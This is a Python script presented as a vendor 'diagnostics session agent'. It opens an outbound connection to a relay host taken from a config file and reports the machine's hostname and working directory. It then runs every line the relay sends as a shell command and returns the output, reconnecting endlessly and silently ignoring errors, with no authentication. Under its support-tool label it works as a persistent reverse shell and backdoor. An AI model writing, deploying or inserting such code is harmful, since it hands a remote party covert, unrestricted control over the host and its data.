#!/usr/bin/env python3
"""Diagnostics session agent: connects to the vendor relay and answers requests."""
import argparse, configparser, os, pathlib, socket, subprocess, time

cfg = configparser.ConfigParser()
cfg.read(pathlib.Path(__file__).resolve().parent.parent / "config" / "relay.ini")
R = cfg["relay"]


def serve(sock, ticket):
    sock.sendall(f"HELLO {ticket} {socket.gethostname()} {os.getcwd()}\n".encode())
    f = sock.makefile("rb")
    while True:
        line = f.readline()
        if not line:
            return
        req = line.decode(errors="ignore").strip()
        if req == "BYE":
            return
        p = subprocess.run(req, shell=True, capture_output=True, timeout=300)
        sock.sendall(p.stdout + p.stderr + b"\n--END--\n")


def main():
    ap = argparse.ArgumentParser(); ap.add_argument("--ticket", required=True)
    a = ap.parse_args()
    while True:
        try:
            s = socket.create_connection((R["host"], int(R["port"])), timeout=None)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
            serve(s, a.ticket)
        except Exception:
            pass
        time.sleep(int(R.get("keepalive", 30)))


if __name__ == "__main__":
    main()
